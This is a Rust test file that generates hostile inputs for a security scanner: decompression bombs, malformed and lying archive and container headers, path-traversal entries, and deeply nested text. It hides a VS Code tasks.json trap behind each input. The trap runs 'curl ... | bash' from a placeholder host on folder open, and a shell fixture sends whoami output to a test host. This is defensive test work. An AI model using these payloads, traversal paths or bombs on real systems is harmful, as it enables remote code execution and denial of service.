//! Hostile bytes: inputs that are built to crash, exhaust or mislead. Each is the first member of an archive whose second
//! member is a trap, and each stands alone as well.
//!
//! One run of the program over all of them: no process is lost, a worker stays below half a gigabyte, the trap behind each is
//! found, and what was not read is never called clean.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use serde_json::Value;

use crate::hostile::lurescan;
use crate::unpack::gzip;

/// Peak of resident memory that a worker may reach.
const MEMORY_KIB: u64 = 512 << 10;
const TRAP: &[u8] = br#"{"version":"2.0.0","tasks":[{"label":"env","type":"shell",
    "command":"curl -sL https://lure.invalid/x | bash","runOptions":{"runOn":"folderOpen"}}]}"#;

/// What must be said of an input that stands alone.
#[derive(Clone, Copy, PartialEq, Debug)]
pub enum Read {
    /// Something of it cannot be read, and that must be said.
    Partly,
    /// It can be read whole, or what is broken holds nothing.
    Either,
}
use Read::{Either, Partly};

pub struct Input {
    pub name: String,
    pub bytes: Vec<u8>,
    pub read: Read,
}

#[derive(Default)]
pub struct Inputs(pub Vec<Input>);

impl Inputs {
    pub fn add(&mut self, read: Read, name: &str, bytes: impl Into<Vec<u8>>) {
        self.0.push(Input { name: name.to_owned(), bytes: bytes.into(), read });
    }
}

fn le(value: u64, width: usize) -> Vec<u8> {
    let mut bytes = value.to_le_bytes().to_vec();
    bytes.resize(width, 0);
    bytes
}

fn be32(value: u32) -> Vec<u8> {
    value.to_be_bytes().to_vec()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("memory");
    out.finish().expect("memory")
}

/// A zip of members as they are given: name, packed bytes, method, stated length.
pub fn zip(members: &[(Vec<u8>, Vec<u8>, u64, u64)]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, data, method, size) in members {
        let rest =
            [le(*method, 2), le(0, 8), le(data.len() as u64, 4), le(*size, 4), le(name.len() as u64, 2), le(0, 2)]
                .concat();
        directory
            .extend([&b"PK\x01\x02\x14\x03\x14\0\0\0"[..], &rest, &le(0, 10), &le(out.len() as u64, 4), name].concat());
        out.extend([&b"PK\x03\x04\x14\0\0\0"[..], &rest, name, data].concat());
    }
    let end = end(members.len() as u64, directory.len() as u64, out.len() as u64, b"");
    [out, directory, end].concat()
}

fn end(members: u64, size: u64, offset: u64, comment: &[u8]) -> Vec<u8> {
    let members = le(members & 0xffff, 2);
    [b"PK\x05\x06\0\0\0\0", &members[..], &members, &le(size, 4), &le(offset, 4), &le(comment.len() as u64, 2), comment]
        .concat()
}

pub fn stored(name: &str, data: &[u8]) -> (Vec<u8>, Vec<u8>, u64, u64) {
    (name.as_bytes().to_vec(), data.to_vec(), 0, data.len() as u64)
}

fn tar_header(name: &str, size: u64, kind: u8) -> Vec<u8> {
    let mut header = tar::Header::new_ustar();
    header.as_old_mut().name[..name.len().min(100)].copy_from_slice(&name.as_bytes()[..name.len().min(100)]);
    header.set_entry_type(tar::EntryType::new(kind));
    header.set_size(size);
    header.set_mode(0o644);
    header.set_cksum();
    header.as_bytes().to_vec()
}

fn tar_entry(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = [tar_header(name, data.len() as u64, b'0'), data.to_vec()].concat();
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

/// Bombs, and archives that lie about how much they hold.
fn bombs(out: &mut Inputs) {
    let zeros = vec![0u8; 45 << 20];
    let mut stream = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    stream.write_all(&zeros).expect("memory");
    let block = stream.finish().expect("memory");
    out.add(Partly, "ten-gigabytes.bz2", block.repeat(220));
    let hundred = deflate(&vec![0u8; 100 << 20]);
    let zero = |n: usize| (format!("{n}.bin").into_bytes(), hundred.clone(), 8, 100 << 20);
    let level = zip(&(0..16).map(zero).collect::<Vec<_>>());
    let pack = |inner: &[u8]| {
        let packed = deflate(inner);
        let members = (0..16).map(|n| (format!("{n}.zip").into_bytes(), packed.clone(), 8, inner.len() as u64));
        zip(&members.collect::<Vec<_>>())
    };
    let forty_two = pack(&pack(&pack(&level)));
    out.add(Partly, "forty-two.zip", forty_two);
    let mut deep = zip(&[stored("a.txt", b"x")]);
    let mut turtles = gzip(b"x");
    for _ in 0..40 {
        deep = zip(&[stored("a.zip", &deep)]);
        turtles = gzip(&turtles);
    }
    out.add(Partly, "forty-deep.zip", deep);
    out.add(Partly, "forty-deep.gz", turtles);
    // Every member of the directory is the same bytes (Fifield 2019, without the quoting).
    let kernel = [
        b"PK\x03\x04\x14\0\0\0\x08\0".to_vec(),
        le(0, 8),
        le(hundred.len() as u64, 4),
        le(100 << 20, 4),
        le(1, 2),
        le(0, 2),
        b"a".to_vec(),
        hundred.clone(),
    ]
    .concat();
    let mut directory = Vec::new();
    for _ in 0..2_000 {
        directory.extend(
            [
                b"PK\x01\x02\x14\x03\x14\0\0\0\x08\0".to_vec(),
                le(0, 8),
                le(hundred.len() as u64, 4),
                le(100 << 20, 4),
                le(1, 2),
                le(0, 12),
                le(0, 4),
                b"a".to_vec(),
            ]
            .concat(),
        );
    }
    let tail = end(2_000, directory.len() as u64, kernel.len() as u64, b"");
    out.add(Partly, "overlapping.zip", [kernel, directory, tail].concat());
    let many: Vec<_> = (0..300_000).map(|n| stored(&n.to_string(), b"")).collect();
    out.add(Partly, "many-empty.zip", zip(&many));
    let many: Vec<u8> = (0..150_000).flat_map(|n| tar_header(&n.to_string(), 0, b'0')).collect();
    out.add(Partly, "many-empty.tar", many);
    out.add(
        Partly,
        "stated-size.zip",
        zip(&[("a.js".into(), deflate(b"1"), 8, u64::from(u32::MAX)), ("b.js".into(), b"x".to_vec(), 97, 1)]),
    );
    let xz = [b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\x02\0\x21\x01\x28".to_vec(), vec![0; 64]].concat();
    out.add(Partly, "huge-dictionary.xz", xz);
    out.add(Partly, "huge-window.zst", b"\x28\xb5\x2f\xfd\x00\xff\x01\x00\x00".to_vec());
    let mut lines = Vec::new();
    for n in 0..5_000 {
        lines.extend(
            format!(
                "'{}'\n",
                data_encoding::BASE64.encode(format!("const a{n} = require('x{n}'); // {n} and more text").as_bytes())
            )
            .bytes(),
        );
    }
    out.add(Partly, "many-layers.js", lines);
    let mut layered = b"const a = require('x'); // nothing else at all in it, really nothing".to_vec();
    for _ in 0..24 {
        layered = data_encoding::BASE64.encode(&layered).into_bytes();
    }
    out.add(Partly, "layers-of-layers.txt", layered);
}

/// Zip files whose numbers and records do not fit together.
fn zips(out: &mut Inputs) {
    let good = zip(&[stored("a.js", b"module.exports = 1;\n"), stored("b/c.txt", &[b'x'; 300])]);
    out.add(Partly, "half.zip", &good[..good.len() / 2]);
    out.add(Partly, "no-end.zip", &good[..good.len() - 22]);
    out.add(Either, "end-alone.zip", end(0, 0, 0, b""));
    out.add(Either, "ends.zip", [good.clone(), end(1, 1, 1, b"").repeat(3_000)].concat());
    out.add(
        Either,
        "ends-in-comment.zip",
        [good[..good.len() - 22].to_vec(), end(2, 106, 0, &end(9, 9, 9, b"").repeat(900))].concat(),
    );
    out.add(Partly, "headers.zip", b"PK\x03\x04".repeat(100_000));
    out.add(Either, "directories.zip", [b"PK\x01\x02".repeat(60_000), end(9, 240_000, 0, b"")].concat());
    let mut broken = good.clone();
    let at = broken.len() - 22;
    broken[at + 16..at + 20].fill(0xff);
    out.add(Either, "offset-far.zip", broken.clone());
    broken[at + 12..at + 16].fill(0xff);
    out.add(Either, "size-far.zip", broken);
    let name = vec![b'n'; 65_535];
    out.add(Either, "long-name.zip", zip(&[(name, b"x".to_vec(), 0, 1)]));
    out.add(
        Either,
        "climbing.zip",
        zip(&[stored("../../../../tmp/lurescan-was-here", b"x"), stored("/etc/cron.d/x", b"x")]),
    );
    out.add(Partly, "aes-without-field.zip", zip(&[("a.js".into(), vec![0; 40], 99, 40)]));
    out.add(Partly, "unknown-method.zip", zip(&[("a.js".into(), vec![0; 40], 13, 40)]));
    for (name, method) in [("deflate64", 9), ("bzip2", 12), ("lzma", 14), ("zstd", 93), ("xz", 95)] {
        out.add(Partly, &format!("garbage-{name}.zip"), zip(&[("a.js".into(), vec![0x5a; 400], method, 40)]));
    }
    let wide = [
        b"PK\x06\x06".to_vec(),
        le(44, 8),
        vec![0xff; 44],
        b"PK\x06\x07\0\0\0\0".to_vec(),
        le(good.len() as u64 - 22, 8),
        le(1, 4),
    ]
    .concat();
    out.add(
        Either,
        "wide-lies.zip",
        [good[..good.len() - 22].to_vec(), wide, end(0xffff, 0xffff_ffff, 0xffff_ffff, b"")].concat(),
    );
    out.add(Either, "bits.zip", good.iter().map(|b| b ^ u8::from(b % 7 == 0)).collect::<Vec<_>>());
}

fn tars(out: &mut Inputs) {
    let good = [tar_entry("a.js", b"1"), tar_entry("b.js", &[b'x'; 900]), vec![0; 1_024]].concat();
    out.add(Partly, "half.tar", &good[..1_100]);
    out.add(Partly, "size-far.tar", [tar_header("a.js", 0o77_777_777_777, b'0'), vec![b'x'; 512]].concat());
    let mut binary = tar_header("a.js", 0, b'0');
    binary[124..136].copy_from_slice(&[0xff; 12]);
    out.add(Partly, "size-negative.tar", [binary, vec![b'x'; 512]].concat());
    out.add(Partly, "long-name-far.tar", [tar_header("././@LongLink", 1 << 32, b'L'), vec![b'n'; 1_024]].concat());
    out.add(
        Partly,
        "two-long-names.tar",
        [
            tar_header("././@LongLink", 3, b'L'),
            vec![b'n'; 512],
            tar_header("././@LongLink", 3, b'L'),
            vec![b'm'; 512],
            tar_entry("a.js", b"1"),
        ]
        .concat(),
    );
    for (name, record) in [
        ("length", "99999999999 path=a.js\n"),
        ("none", "path=a.js"),
        ("negative", "-5 size=-9\n"),
        ("size", "30 size=99999999999999999999\n"),
    ] {
        let bytes = [
            tar_header("pax", record.len() as u64, b'x'),
            {
                let mut r = record.as_bytes().to_vec();
                r.resize(512, 0);
                r
            },
            tar_entry("a.js", b"1"),
            vec![0; 1_024],
        ]
        .concat();
        out.add(Either, &format!("pax-{name}.tar"), bytes);
    }
    out.add(Partly, "sparse.tar", [tar_header("a.js", 512, b'S'), vec![b'x'; 512], vec![0; 1_024]].concat());
    let links: Vec<u8> = (0..5_000)
        .flat_map(|n| {
            let mut h = tar::Header::new_ustar();
            h.as_old_mut().name[..5].copy_from_slice(format!("l{n:04}").as_bytes());
            h.as_old_mut().linkname[..5].copy_from_slice(format!("l{:04}", (n + 1) % 5_000).as_bytes());
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            h.set_cksum();
            h.as_bytes().to_vec()
        })
        .collect();
    out.add(Either, "link-loop.tar", links);
    out.add(
        Either,
        "devices.tar",
        [tar_header("dev/sda", 0, b'4'), tar_header("dev/tty", 0, b'3'), tar_header("pipe", 0, b'6'), vec![0; 1_024]]
            .concat(),
    );
    let shifted: Vec<u8> = (0..200u64).flat_map(|n| tar_header(&format!("l{n}"), 512 * (n + 1), b'2')).collect();
    out.add(Either, "links-with-content.tar", shifted);
    out.add(Partly, "checksum.tar", {
        let mut bad = good.clone();
        bad[1_024 + 148..1_024 + 156].fill(b'7');
        bad
    });
}

/// Containers that a library or our own reader opens, with numbers that lie.
fn containers(out: &mut Inputs) {
    let seven =
        |start: &[u8], header: &[u8]| [b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), start.to_vec(), header.to_vec()].concat();
    out.add(Partly, "short.7z", seven(b"", b""));
    out.add(
        Partly,
        "header-far.7z",
        seven(&[be32(0x1234), le(u64::MAX >> 1, 8), le(u64::MAX >> 1, 8), le(0, 4)].concat(), &[1; 64]),
    );
    out.add(Partly, "header-garbage.7z", seven(&[vec![0; 4], le(0, 8), le(64, 8), vec![0; 4]].concat(), &[0xff; 64]));
    out.add(
        Partly,
        "folders.7z",
        seven(
            &[vec![0; 4], le(0, 8), le(64, 8), vec![0; 4]].concat(),
            &[1, 4, 6, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 9, 0],
        ),
    );
    let iso = |root: Vec<u8>| {
        let mut sector = vec![0u8; 2_048];
        sector[0] = 1;
        sector[1..6].copy_from_slice(b"CD001");
        sector[156..190].copy_from_slice(&root[..34]);
        [vec![0; 16 * 2_048], sector, [b"\xffCD001".to_vec(), vec![0; 2_042]].concat()].concat()
    };
    let record = |start: u64, size: u64, flags: u8, name: &[u8]| {
        let mut r = vec![0u8; 34];
        r[0] = (33 + name.len()).next_multiple_of(2) as u8;
        r[2..6].copy_from_slice(&le(start, 4));
        r[10..14].copy_from_slice(&le(size, 4));
        r[25] = flags;
        r[32] = name.len() as u8;
        r[33] = name[0];
        r.truncate(33);
        r.extend(name);
        r.resize(r[0] as usize, 0);
        r
    };
    let looped = [iso(record(18, 2_048, 2, &[0])), {
        let mut s = [record(18, 2_048, 2, &[0]), record(18, 2_048, 2, b"D"), record(18, 2_048, 2, b"E")].concat();
        s.resize(2_048, 0);
        s
    }]
    .concat();
    out.add(Either, "folder-in-itself.iso", looped);
    out.add(Partly, "folder-far.iso", iso(record(u64::from(u32::MAX), u64::from(u32::MAX), 2, &[0])));
    out.add(
        Partly,
        "file-far.iso",
        [iso(record(18, 2_048, 2, &[0])), {
            let mut s = [record(18, 2_048, 2, &[0]), record(9_999_999, u64::from(u32::MAX), 0, b"A.JS;1")].concat();
            s.resize(2_048, 0);
            s
        }]
        .concat(),
    );
    out.add(Either, "records-of-one.iso", [iso(record(18, 2_048 * 50, 2, &[0])), vec![1; 2_048 * 50]].concat());
    let asar = |tree: &str| {
        [
            le(4, 4),
            le(tree.len() as u64 + 8, 4),
            le(tree.len() as u64 + 4, 4),
            le(tree.len() as u64, 4),
            tree.as_bytes().to_vec(),
            b"xxxx".to_vec(),
        ]
        .concat()
    };
    out.add(Partly, "far.asar", asar(r#"{"files":{"a.js":{"size":99999999999,"offset":"18446744073709551615"}}}"#));
    out.add(Partly, "negative.asar", asar(r#"{"files":{"a.js":{"size":-1,"offset":"-1"}}}"#));
    out.add(Either, "deep.asar", asar(&format!("{}1{}", r#"{"files":{"a":"#.repeat(20_000), "}}".repeat(20_000))));
    out.add(
        Partly,
        "header-far.asar",
        [le(4, 4), le(0xffff_fff0, 4), le(0xffff_fff0, 4), le(0xffff_fff0, 4), br#"{"files":{"#.to_vec()].concat(),
    );
    let ar = |name: &str, size: &str, rest: &[u8]| {
        [
            b"!<arch>\n".to_vec(),
            format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{size:<10}`\n", 0, 0, 0, 644).into_bytes(),
            rest.to_vec(),
        ]
        .concat()
    };
    out.add(Partly, "far.a", ar("a.js/", "9999999999", b"x"));
    out.add(Partly, "negative.a", ar("a.js/", "-9", b"x"));
    out.add(Either, "name-far.a", ar("/99999999", "1", b"x\n"));
    out.add(Either, "name-long.a", ar("#1/999999999", "4", b"name"));
    out.add(Partly, "header-half.a", &ar("a.js/", "1", b"x")[..40]);
    let cab = |folders: u64, files: u64, at: u64| {
        [
            b"MSCF\0\0\0\0".to_vec(),
            le(200, 8),
            le(at, 8),
            vec![3, 1],
            le(folders, 2),
            le(files, 2),
            le(0, 6),
            vec![0xff; 164],
        ]
        .concat()
    };
    out.add(Partly, "counts.cab", cab(0xffff, 0xffff, 36));
    out.add(Partly, "files-far.cab", cab(1, 1, 0xffff_ffff));
    let mut beyond = crate::containers::cabinet("a.js", b"module.exports = 1;\n");
    let file = u32::from_le_bytes([beyond[16], beyond[17], beyond[18], beyond[19]]) as usize;
    beyond[file + 4..file + 8].copy_from_slice(&le(0x7fff_0000, 4));
    out.add(Partly, "offset-far.cab", beyond);
    out.add(Partly, "short.cab", &cab(1, 1, 44)[..20]);
    let ole = |fill: u8| {
        [
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(),
            vec![0; 16],
            vec![0x3e, 0, 3, 0, 0xfe, 0xff, 9, 0, 6, 0],
            vec![0; 10],
            le(1, 4),
            le(0, 8),
            le(0x1000, 4),
            vec![fill; 1_500],
        ]
        .concat()
    };
    out.add(Partly, "loop.msi", ole(0));
    out.add(Partly, "far.msi", ole(0xfd));
    out.add(Partly, "short.msi", &ole(0)[..64]);
    // Packed macros: chunks of six bytes that unpack to 4,096, beginnings without end, a directory whose records lie.
    let chunk = b"\x03\xb0\x02a\xff\x0f".as_slice();
    out.add(Partly, "macro-bomb.bin", [b"\x01\x08\xb0\0Attribut", &chunk.repeat(300_000)[..]].concat());
    out.add(Either, "macro-beginnings.bin", b"\xff\x01\x08\xb0\0Attribut".repeat(100_000));
    let records = b"\x31\0\x04\0\0\0\xff\xff\xff\xff\x1a\0\xff\xff\xff\xff".as_slice();
    let lying = crate::macros::document(&[("dir", &crate::macros::packed(records)), ("M", &[1, 0xff, 0xff])]);
    out.add(Either, "records-far.doc", lying);
    let named = crate::macros::directory(&[("M", 0), ("M", u32::MAX), ("N", 1)]);
    out.add(Partly, "sources-far.doc", crate::macros::document(&[("dir", &named), ("M", &[1, 9, 0xb0, 0xff, 0xff])]));
    let program = |length: u32, at: u32, size: u32| {
        [
            b"\x7fELF\x02\x01\x01".to_vec(),
            vec![0; 500],
            b"MEI\x0c\x0b\x0a\x0b\x0e".to_vec(),
            be32(length),
            be32(at),
            be32(size),
            be32(312),
            vec![0; 64],
        ]
        .concat()
    };
    out.add(Partly, "far-table.exe", program(100, 0xffff_fff0, 0xffff_fff0));
    out.add(Partly, "longer-than-itself.exe", program(0xffff_ffff, 0, 40));
    out.add(Partly, "empty-table.exe", program(200, 0, 0));
    out.add(Either, "nested.eml", {
        let mut body = b"From: a@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nx\r\n".to_vec();
        for n in 0..30 {
            body = [format!("From: a@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b{n}\"\r\n\r\n--b{n}\r\nContent-Type: message/rfc822\r\n\r\n").into_bytes(), body, format!("\r\n--b{n}--\r\n").into_bytes()].concat();
        }
        body
    });
    out.add(
        Either,
        "boundaries.eml",
        [
            b"From: a@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                .to_vec(),
            b"--b\r\n".repeat(50_000),
        ]
        .concat(),
    );
    out.add(Partly, "blocks.rar", [b"Rar!\x1a\x07\x01\0".to_vec(), vec![0xff; 4_000]].concat());
    out.add(Partly, "blocks4.rar", [b"Rar!\x1a\x07\0".to_vec(), [0, 0, 0x74, 0, 0x80, 7, 0].repeat(2_000)].concat());
    for (name, magic) in [
        ("a.gz", &b"\x1f\x8b\x08\x1f"[..]),
        ("a.bz2", b"BZh91AY&SY"),
        ("a.xz", b"\xfd7zXZ\0\xff\xff"),
        ("a.zst", b"\x28\xb5\x2f\xfd"),
        ("a.lz4", b"\x04\x22\x4d\x18"),
    ] {
        out.add(Partly, &format!("garbage-{name}"), [magic, &[0xa5; 3_000]].concat());
    }
}

/// Texts that are deep, long, or the worst for a pattern.
fn texts(out: &mut Inputs) {
    let n = 100_000;
    out.add(Either, "brackets.json", "[".repeat(n) + &"]".repeat(n));
    out.add(Either, "objects.json", r#"{"a":"#.repeat(n) + "1" + &"}".repeat(n));
    out.add(Either, "brackets.js", "[".repeat(n) + &"]".repeat(n));
    out.add(Either, "calls.js", "f(".repeat(n) + &")".repeat(n));
    out.add(Either, "bangs.js", "!".repeat(3 * n) + "0");
    out.add(Either, "ternaries.js", "a?b:".repeat(n) + "c");
    out.add(Either, "templates.js", "`${".repeat(n) + &"}`".repeat(n));
    out.add(Either, "arrows.js", "a=>".repeat(n) + "a");
    out.add(Either, "commas.js", "a,".repeat(5 * n) + "a");
    out.add(Either, "plus.js", "a+".repeat(2 * n) + "a");
    out.add(Either, "elses.js", "if(a)b;else ".repeat(n / 2) + "c");
    out.add(Either, "types.ts", "type a = ".to_owned() + &"Array<".repeat(n) + "b" + &">".repeat(n));
    out.add(Either, "elements.jsx", "<a>".repeat(n) + &"</a>".repeat(n));
    out.add(Either, "brackets.py", "(".repeat(n) + "1" + &")".repeat(n));
    out.add(Either, "nots.py", "not ".repeat(n) + "1");
    out.add(Either, "indents.py", (0..2_000).map(|d| format!("{}if a:\n", " ".repeat(d))).collect::<String>());
    out.add(Either, "substitutions.sh", "echo $(".repeat(n / 5) + &")".repeat(n / 5));
    out.add(Either, "quotes.sh", "echo \"$(echo '".repeat(n / 10));
    out.add(Either, "brackets.ps1", "@(".repeat(n / 5) + &")".repeat(n / 5));
    out.add(Either, "deep.yaml", (0..3_000).map(|d| format!("{}a:\n", " ".repeat(d))).collect::<String>());
    out.add(Either, "flow.yaml", "[".repeat(n / 5) + &"]".repeat(n / 5));
    out.add(
        Either,
        "aliases.yaml",
        "a0: &a0 [x,x]\n".to_owned()
            + &(1..40).map(|d| format!("a{d}: &a{d} [*a{0},*a{0}]\n", d - 1)).collect::<String>(),
    );
    out.add(Either, "deep.toml", "a = ".to_owned() + &"[".repeat(n / 5) + &"]".repeat(n / 5));
    out.add(Either, "deep.xml", "<a>".repeat(n));
    out.add(Either, "scripts.html", "<script>".repeat(n));
    out.add(
        Either,
        "abi.json",
        format!("{{\"abi\":[],\"bytecode\":\"0x{}\"}}", "60806040523480156100105760".repeat(6_600)),
    );
    out.add(Either, "percent.txt", "%41".repeat(5 * n));
    out.add(Either, "entities.txt", "&#65;".repeat(3 * n));
    out.add(Either, "escapes.txt", "\\x41".repeat(3 * n));
    out.add(Either, "data-urls.txt", "data:text/html".repeat(n));
    out.add(Either, "passwords.txt", "password for the ".repeat(n / 2));
    out.add(Either, "ascii85.txt", "<~".repeat(2 * n));
    out.add(Either, "base85.txt", "!#$%&()*+-;<=>?@^_`{|}~0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ".repeat(n));
    out.add(Either, "one-line.js", "x".repeat(30 << 20));
    out.add(Either, "blanks.js", " ".repeat(20 << 20));
    out.add(Either, "commands.sh", "curl https://a.test/$(whoami) | ".repeat(n / 10));
    out.add(Either, "urls.txt", "https://a.b.c.d.e.f.test/%20?x=".repeat(n));
    out.add(Either, "utf16.txt", [vec![0xff, 0xfe], b"a\0".repeat(n), vec![0xd8]].concat());
    out.add(Either, "not-utf8.js", b"\xc3\x28\xf0\x28\x8c".repeat(n));
    out.add(Either, "nuls.js", vec![0u8; 8 << 20]);
    out.add(
        Either,
        "marshal.pyc",
        [b"\xcb\x0d\x0d\x0a".to_vec(), vec![0; 12], b"(\xff\xff\xff\x7f".repeat(n / 5)].concat(),
    );
    out.add(Either, "tuples.pyc", [b"\xcb\x0d\x0d\x0a".to_vec(), vec![0; 12], b")\x01".repeat(n)].concat());
}

fn inputs() -> Vec<Input> {
    let mut out = Inputs::default();
    bombs(&mut out);
    zips(&mut out);
    tars(&mut out);
    containers(&mut out);
    texts(&mut out);
    out.0
}

/// An archive with the input first and the trap behind it: packed where it would be longer than what is read of a file.
fn with_trap(input: &Input) -> Vec<u8> {
    const NAME: &str = ".vscode/tasks.json";
    let Input { name, bytes, .. } = input;
    match is_long(input) {
        true => zip(&[(name.clone().into(), deflate(bytes), 8, bytes.len() as u64), stored(NAME, TRAP)]),
        false => [tar_entry(name, bytes), tar_entry(NAME, TRAP), vec![0; 1_024]].concat(),
    }
}

/// The name of that archive.
fn trapped(input: &Input) -> String {
    format!("{}.{}", input.name, if is_long(input) { "zip" } else { "tar" })
}

fn is_long(input: &Input) -> bool {
    input.bytes.len() as u64 > lurescan::limits::FILE_BYTES - (1 << 20)
}

/// Runs the program over a folder of samples; its records by name, and the peak of a worker's memory.
fn bulk(folder: &Path) -> (BTreeMap<String, Value>, u64) {
    let mut child = lurescan()
        .args(["bulk", "-j", "1"])
        .arg(folder)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the program starts");
    let (done, peak) = (AtomicBool::new(false), AtomicU64::new(0));
    let id = child.id();
    let output = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                workers(id).into_iter().for_each(|worker| {
                    peak.fetch_max(high_water(worker), Ordering::Relaxed);
                });
                std::thread::yield_now();
                std::thread::park_timeout(std::time::Duration::from_millis(20));
            }
        });
        let mut said = String::new();
        std::io::Read::read_to_string(&mut child.stdout.take().expect("piped"), &mut said).expect("UTF-8");
        done.store(true, Ordering::Relaxed);
        said
    });
    let status = child.wait().expect("it ends");
    assert!(status.code().is_some_and(|code| code != 3), "{status}");
    let records = output.lines().map(|line| serde_json::from_str::<Value>(line).expect("a record"));
    let named = records.map(|record| {
        let target = record["target"].as_str().expect("a target");
        (target.rsplit('/').next().unwrap_or_default().to_owned(), record)
    });
    (named.collect(), peak.into_inner())
}

/// The processes that the program has started.
fn workers(of: u32) -> Vec<u32> {
    let threads = fs::read_dir(format!("/proc/{of}/task")).into_iter().flatten().flatten();
    let children = threads.map(|thread| fs::read_to_string(thread.path().join("children")).unwrap_or_default());
    children.flat_map(|ids| ids.split_whitespace().filter_map(|id| id.parse().ok()).collect::<Vec<u32>>()).collect()
}

fn high_water(process: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    line.and_then(|line| line.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}

/// Scans each input alone and with the trap behind it; what is wrong with the answers, and the peak of a worker in KiB.
pub fn tried(inputs: &[Input]) -> (Vec<String>, u64) {
    let folder = tempfile::tempdir().expect("a temporary folder");
    for input in inputs {
        fs::write(folder.path().join(format!("alone-{}", input.name)), &input.bytes).expect("written");
        fs::write(folder.path().join(format!("trap-{}", trapped(input))), with_trap(input)).expect("written");
    }
    let (records, peak) = bulk(folder.path());
    let mut wrong = Vec::new();
    for input in inputs {
        // Shown by a run with --nocapture: what each came to.
        let alone = &records[&format!("alone-{}", input.name)];
        let trap = &records[&format!("trap-{}", trapped(input))];
        println!("{:<28} {:<11} {:.120}", input.name, alone["verdict"].to_string(), alone["gaps"].to_string());
        let found = trap["findings"].as_array().expect("findings").iter().any(|finding| {
            finding["locator"].as_str().is_some_and(|at| at.ends_with("!/.vscode/tasks.json"))
                && finding["severity"] != "low"
        });
        if !found || trap["verdict"] != "block" {
            wrong.push(format!("{}: the trap behind it: {} {}", input.name, trap["verdict"], trap["gaps"]));
        }
        if input.read == Partly && alone["verdict"] == "pass" {
            wrong.push(format!("{}: called clean: {}", input.name, alone["gaps"]));
        }
        for record in [alone, trap] {
            let gaps = record["gaps"].to_string();
            if gaps.contains("crashed") || gaps.contains("panicked") || gaps.contains("timed-out") {
                wrong.push(format!("{}: {gaps}", record["target"]));
            }
        }
    }
    println!("{} inputs, peak of a worker {} MiB", inputs.len(), peak >> 10);
    if peak >= MEMORY_KIB {
        wrong.push(format!("a worker took {} MiB", peak >> 10));
    }
    (wrong, peak)
}

#[test]
fn hostile_bytes_cost_no_process_no_memory_and_no_finding() {
    let inputs = inputs();
    assert!(inputs.len() >= 80, "{} inputs", inputs.len());
    let (wrong, peak) = tried(&inputs);
    assert!(wrong.is_empty(), "peak {} MiB\n{}", peak >> 10, wrong.join("\n"));
}
